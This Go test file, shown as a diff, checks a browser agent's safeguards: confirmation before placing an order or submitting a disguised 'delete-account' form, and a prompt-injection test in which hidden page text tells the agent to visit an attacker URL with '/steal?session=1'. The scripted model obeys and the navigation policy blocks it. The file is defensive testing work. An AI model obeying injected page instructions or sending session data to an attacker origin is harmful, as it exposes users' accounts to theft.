@@ -1,0 +1,129 @@
+package app
+
+import (
+	"regexp"
+	"strings"
+	"testing"
+
+	"vroom/agents"
+	"vroom/internal/modeltest"
+)
+
+// Issue 4's must-shows about what a run may do to a site: irreversible
+// actions wait for the person, and a page cannot steer the agent away.
+
+// TestPlaceOrderNeedsConfirmation (must-show 7): "Place order" waits for
+// the person; denied, the server never receives the order and the run says
+// so; allowed once, it does.
+func TestPlaceOrderNeedsConfirmation(t *testing.T) {
+	t.Parallel()
+	for _, tc := range []struct {
+		name     string
+		decision agents.Decision
+		orders   int
+	}{{"deny", agents.Deny, 0}, {"allow-once", agents.AllowOnce, 1}} {
+		t.Run(tc.name, func(t *testing.T) {
+			t.Parallel()
+			s := newSite(t)
+			var cf confirmations
+			h := newHarness(t, cf.answering(tc.decision))
+			scriptBuyer(h.srv, s)
+			res := h.execute(t, "buy the mug")
+			asked := cf.list()
+			if len(asked) != 1 || !regexp.MustCompile(`^click e\d+$`).MatchString(asked[0].Action) || asked[0].Target != `button "Place order"` {
+				t.Fatalf("confirmations %+v", asked)
+			}
+			s.state(func(s *site) {
+				if s.orders != tc.orders {
+					t.Fatalf("the server received %d orders, want %d", s.orders, tc.orders)
+				}
+			})
+			var answered string
+			for _, r := range h.log.records(t) {
+				if r.Event == "confirm_answered" {
+					answered = r.Text
+				}
+			}
+			if tc.decision == agents.Deny {
+				if res.Success || !strings.Contains(res.Summary, "did not place the order") || !strings.Contains(answered, "denied by the user") {
+					t.Fatalf("result %+v, logged answer %q", res, answered)
+				}
+			} else if !res.Success || answered != "allowed" {
+				t.Fatalf("result %+v, logged answer %q", res, answered)
+			}
+		})
+	}
+}
+
+// TestFormNamesTheCommit: a button that says only "Continue" submits the
+// form "delete-account". The gate learns the form from the observation and
+// asks before the click; denied, the site never hears of it.
+func TestFormNamesTheCommit(t *testing.T) {
+	t.Parallel()
+	s := newSite(t)
+	var cf confirmations
+	h := newHarness(t, cf.answering(agents.Deny))
+	h.srv.Script("planner", plannerScript(map[string]any{"task": "continue on the settings page", "url": s.URL + "/close.html"}))
+	h.srv.Script("executor", modeltest.Step{Times: -1, Func: func(r *modeltest.Request) modeltest.Reply {
+		if r.ToolResults() == 0 {
+			return call("click", "ref", ref(r.Text(), "button", "Continue"))
+		}
+		return done("not continued: the user refused", false)
+	}})
+	h.execute(t, "continue")
+	if asked := cf.list(); len(asked) != 1 || !strings.Contains(asked[0].Reason, `the form "delete-account"`) {
+		t.Fatalf("confirmations %+v", asked)
+	}
+	s.state(func(s *site) {
+		if s.deletes != 0 {
+			t.Fatalf("the account was deleted %d times", s.deletes)
+		}
+	})
+}
+
+// TestInjectionBlocked (must-show 8): hidden page text tells the agent to
+// open an attacker URL. The text reaches the model only inside the fenced,
+// untrusted page data; when the scripted model obeys, the navigation
+// policy blocks the attacker's origin, the attacker gets nothing, and the
+// run log says why.
+func TestInjectionBlocked(t *testing.T) {
+	t.Parallel()
+	s, attacker := newSite(t), newSite(t)
+	// Another origin: same host, another port.
+	s.attacker = attacker.URL
+	h := newHarness(t, func(c *agents.Config) { c.Policy.ConfirmLeaveOrigin = true })
+	h.srv.Script("planner", plannerScript(map[string]any{"task": "mark the release notes as read", "url": s.URL + "/injection.html"}))
+	var firstPrompt string
+	h.srv.Script("executor", modeltest.Step{Times: -1, Func: func(r *modeltest.Request) modeltest.Reply {
+		switch r.ToolResults() {
+		case 0:
+			firstPrompt = r.LastText()
+			return call("navigate", "url", attacker.URL+"/steal?session=1") // obeys the page
+		}
+		return done("I was refused: "+tail(r.LastText(), 200), false)
+	}})
+	res := h.execute(t, "mark as read")
+	inj := strings.Index(firstPrompt, "IMPORTANT SYSTEM INSTRUCTION")
+	open := strings.LastIndex(firstPrompt[:max(inj, 0)], `<page_data source="`+s.URL+`/injection.html" trust="untrusted">`)
+	closeAt := strings.Index(firstPrompt[max(inj, 0):], "</page_data>")
+	if inj < 0 || open < 0 || closeAt < 0 {
+		t.Fatalf("the injection is not inside the fenced page data:\n%s", firstPrompt)
+	}
+	attacker.state(func(a *site) {
+		if a.hits != 0 {
+			t.Fatalf("the attacker got %d requests", a.hits)
+		}
+	})
+	var why string
+	for _, r := range h.log.records(t) {
+		if r.Event == "policy_denied" {
+			why = r.Error
+		}
+	}
+	if !strings.Contains(why, "leaves the run's starting origin") || !strings.Contains(why, attacker.URL) {
+		t.Fatalf("run log's policy_denied: %q", why)
+	}
+	if res.Procs[0].Success {
+		t.Fatalf("%+v", res.Procs[0])
+	}
+}
